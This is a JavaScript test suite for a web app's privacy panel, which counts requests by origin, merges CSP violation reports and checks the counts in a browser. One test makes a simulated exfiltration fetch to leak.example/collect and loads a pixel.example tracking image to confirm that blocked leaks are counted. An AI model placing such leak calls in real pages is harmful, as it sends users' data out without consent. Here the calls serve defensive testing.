// The privacy panel's counting: on given entries (what each origin and kind of URL counts as),
// on an attempt the Content-Security-Policy blocks (the browser makes no timing entry for it:
// the panel counts it from the violation event), and on a request that really leaves the
// origin (the policy bypassed for the test), which the panel must count as outside.

import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, test } from "node:test";
import {
  classify,
  distinctAttempts,
  fromServiceWorker,
  fromTiming,
  fromViolation,
  mergeBlocked,
  tally,
} from "../../web/privacy.js";
import { ARTIFACTS, launch, readPrivacy } from "./harness.mjs";

const ORIGIN = "http://127.0.0.1:8080";

test("what counts as outside the page's origin", () => {
  const cases = {
    "http://127.0.0.1:8080/app.js": "self",
    "http://127.0.0.1:8080/": "self",
    "http://127.0.0.1:8081/app.js": "outside",
    "https://127.0.0.1:8080/app.js": "outside",
    "http://localhost:8080/app.js": "outside",
    "https://cdn.example.com/lib.js": "outside",
    "ws://127.0.0.1:8080/socket": "outside",
    "data:image/png;base64,AAAA": "local",
    "about:blank": "local",
    "blob:http://127.0.0.1:8080/6a8e0c1e-0f7a-4d4e-9d2b-2f8d1c0b7e11": "local",
    "blob:https://evil.example/6a8e0c1e-0f7a-4d4e-9d2b-2f8d1c0b7e11": "outside",
    "not a url": "outside",
  };
  for (const [url, where] of Object.entries(cases)) assert.equal(classify(url, ORIGIN), where, url);
});

test("the tally counts every entry, those aimed outside (sent or blocked) and the blocked ones", () => {
  const entry = (url, blocked = false) => ({ url, blocked });
  const entries = [
    entry(`${ORIGIN}/`),
    entry(`${ORIGIN}/app.js`),
    entry(`${ORIGIN}/pkg/vitrine_wasm_bg.wasm`),
    entry("data:image/svg+xml,<svg/>"),
    entry("https://tracker.example/pixel.gif"),
    entry("https://fonts.example/font.woff2", true),
    entry(`${ORIGIN}/blocked-frame.html`, true),
  ];
  assert.deepEqual(tally(entries, ORIGIN), { total: 7, outside: 2, blocked: 2 });
  assert.deepEqual(tally([], ORIGIN), { total: 0, outside: 0, blocked: 0 });
});

test("entries from timing records, violations and the service worker's log", () => {
  const page = 1_000_000;
  // The engine worker's clock starts 250 ms after the page's.
  const wasm = fromTiming(
    {
      name: `${ORIGIN}/pkg/vitrine_wasm_bg.wasm`,
      initiatorType: "fetch",
      startTime: 40,
      transferSize: 0,
      encodedBodySize: 1_150_000,
      deliveryType: "cache-storage",
    },
    "engine",
    page + 250,
    page,
  );
  assert.deepEqual(wasm, {
    url: `${ORIGIN}/pkg/vitrine_wasm_bg.wasm`,
    source: "engine",
    type: "fetch",
    bytes: 1_150_000,
    time: 290,
    blocked: false,
    servedBy: "offline",
  });
  const network = fromTiming(
    {
      name: `${ORIGIN}/app.js`,
      initiatorType: "script",
      startTime: 5,
      transferSize: 172_491,
      encodedBodySize: 172_191,
    },
    "page",
    page,
    page,
  );
  assert.equal(network.servedBy, "network");
  // Another origin's response says nothing of its size or path without its consent.
  const opaque = fromTiming(
    { name: "https://other.example/x", initiatorType: "fetch", startTime: 9, transferSize: 0, encodedBodySize: 0 },
    "page",
    page,
    page,
  );
  assert.equal(opaque.bytes, null);
  assert.equal(opaque.servedBy, null);
  // Code the policy refused to run is not a request; a URL it refused is one.
  assert.equal(fromViolation({ blockedURI: "inline", effectiveDirective: "script-src-elem" }, "page", 1), null);
  assert.equal(fromViolation({ blockedURI: "eval", effectiveDirective: "script-src" }, "page", 1), null);
  const blocked = fromViolation({ blockedURI: "https://evil.example/x", effectiveDirective: "connect-src" }, "page", 7);
  assert.deepEqual(blocked, {
    url: "https://evil.example/x",
    source: "page",
    type: "connect-src",
    bytes: null,
    time: 7,
    blocked: true,
    servedBy: null,
  });
  const kept = fromServiceWorker(
    { url: `${ORIGIN}/app.js`, kind: "precache", status: 200, bytes: 172_191, time: page + 120 },
    page,
  );
  assert.deepEqual(kept, {
    url: `${ORIGIN}/app.js`,
    source: "serviceWorker",
    type: "precache",
    bytes: 172_191,
    time: 120,
    blocked: false,
    servedBy: "network",
  });
});

test("a blocked attempt the browser also timed is counted once", () => {
  const timed = (url, source = "page") => ({ url, source, bytes: null, blocked: false, servedBy: null, time: 1 });
  const refused = (url, source = "page") => ({ url, source, bytes: null, blocked: true, servedBy: null, time: 1 });
  const merged = mergeBlocked([
    timed(`${ORIGIN}/app.js`),
    // A refused image: timed, and reported.
    timed("https://pixel.example/p.gif"),
    refused("https://pixel.example/p.gif"),
    // A refused fetch: reported only.
    refused("https://leak.example/collect"),
    // Another source's entry of the same URL is not the same attempt.
    timed("https://pixel.example/p.gif", "engine"),
  ]);
  assert.deepEqual(
    merged.map((e) => [e.source, e.url, e.blocked]),
    [
      ["page", `${ORIGIN}/app.js`, false],
      ["page", "https://pixel.example/p.gif", true],
      ["engine", "https://pixel.example/p.gif", false],
      ["page", "https://leak.example/collect", true],
    ],
  );
  assert.deepEqual(tally(merged, ORIGIN), { total: 4, outside: 3, blocked: 2 });
});

test("an attempt refused by both copies of the policy is one attempt", () => {
  const report = (blockedURI, lineNumber, time) => ({
    blockedURI,
    effectiveDirective: "connect-src",
    sourceFile: "",
    lineNumber,
    columnNumber: 9,
    time,
  });
  const attempts = distinctAttempts([
    // Two attempts from two lines, each reported by the header's policy and the meta tag's.
    report("https://leak.example/a", 4, 1106.9),
    report("https://leak.example/a", 4, 1107.5),
    report("https://leak.example/a", 5, 1107.6),
    report("https://leak.example/a", 5, 1107.7),
    // The same line again, a second later: another attempt.
    report("https://leak.example/a", 4, 2107.0),
  ]);
  assert.deepEqual(
    attempts.map((v) => [v.lineNumber, v.time]),
    [
      [4, 1106.9],
      [5, 1107.6],
      [4, 2107.0],
    ],
  );
});

let env;
before(async () => {
  env = await launch();
});
after(async () => {
  await env?.close();
});

test("on the first visit the panel lists the page's, the engine's and the service worker's requests, none outside", async () => {
  const page = await env.newPage();
  await page.locator(".foot-offline[data-status='ready']").waitFor();
  const privacy = await readPrivacy(page);
  assert.equal(privacy.outside, 0);
  assert.equal(privacy.total, privacy.rows.length);
  const sources = new Set(privacy.rows.map((r) => r.source));
  assert.deepEqual([...sources].sort(), ["engine", "page", "serviceWorker"]);
  assert.ok(privacy.rows.every((r) => r.where === "self"));
  // The service worker fetched each file it keeps, once.
  const kept = privacy.rows.filter((r) => r.source === "serviceWorker" && r.path !== "/sw.js");
  assert.ok(kept.some((r) => r.path === "/pkg/vitrine_wasm_bg.wasm"));
  assert.equal(new Set(kept.map((r) => r.path)).size, kept.length);
  // Every request Playwright saw from this context is in the list (the browser's own fetches of
  // the icon and the manifest aside, which may or may not go through the page's records).
  const listed = new Set(privacy.rows.map((r) => r.path));
  const seen = new Set(page.requests.map((u) => new URL(u).pathname));
  const missing = [...seen].filter((p) => !listed.has(p) && !["/favicon.svg", "/manifest.webmanifest"].includes(p));
  assert.deepEqual(missing, []);
  await page.screenshot({ path: join(ARTIFACTS, "privacy-en.png") });
  await page.locator("#privacy-close").click();
  await page.getByRole("button", { name: "Français" }).click();
  const fr = await readPrivacy(page);
  assert.match(fr.verdict, /0 requête hors de l'origine de cette page/);
  await page.screenshot({ path: join(ARTIFACTS, "privacy-fr.png") });
  assert.deepEqual(page.errors, []);
});

test("an attempt the policy blocks leaves no timing entry, and the panel counts it outside", async () => {
  const page = await env.newPage();
  await page.evaluate(async () => {
    await fetch("https://leak.example/collect?rows=1").catch(() => {});
    const image = new Image();
    image.src = "https://pixel.example/p.gif";
    await new Promise((resolve) => {
      image.onerror = resolve;
    });
  });
  // The browser keeps no timing record of the fetch it refused (Chromium times the refused
  // image, with no response)...
  const recorded = await page.evaluate(() =>
    performance.getEntriesByType("resource").filter((e) => e.name.includes("leak.example")),
  );
  assert.deepEqual(recorded, []);
  // ...the panel has both from the violation events, each counted once.
  const privacy = await readPrivacy(page);
  assert.equal(privacy.outside, 2);
  assert.equal(privacy.blocked, 2);
  const outside = privacy.rows.filter((r) => r.where === "outside");
  assert.deepEqual(outside.map((r) => [r.origin, r.served]).sort(), [
    ["https://leak.example", "blocked"],
    ["https://pixel.example", "blocked"],
  ]);
  assert.match(privacy.verdict, /2 requests outside this page's origin/);
  assert.equal(await page.locator("#request-count").getAttribute("data-outside"), "2");
  await page.screenshot({ path: join(ARTIFACTS, "privacy-blocked.png") });
  // The browser logs each refusal once per policy (header and meta tag).
  assert.ok(page.errors.length >= 2);
  assert.ok(
    page.errors.every((e) => /Content Security Policy/.test(e)),
    page.errors.join("\n"),
  );
});

test("a request that does leave the origin (policy bypassed for the test) is listed and counted outside", async () => {
  const page = await env.newPage({ contextOptions: { bypassCSP: true } });
  // localhost is another origin than 127.0.0.1, though the same server.
  const other = env.url.replace("127.0.0.1", "localhost");
  await page.evaluate((url) => fetch(`${url}favicon.svg`, { mode: "no-cors" }), other);
  const privacy = await readPrivacy(page);
  assert.equal(privacy.outside, 1);
  assert.equal(privacy.blocked, 0);
  const row = privacy.rows.find((r) => r.where === "outside");
  assert.equal(row.origin, new URL(other).origin);
  assert.equal(row.path, "/favicon.svg");
  assert.equal(await page.locator("#request-count").getAttribute("data-outside"), "1");
});
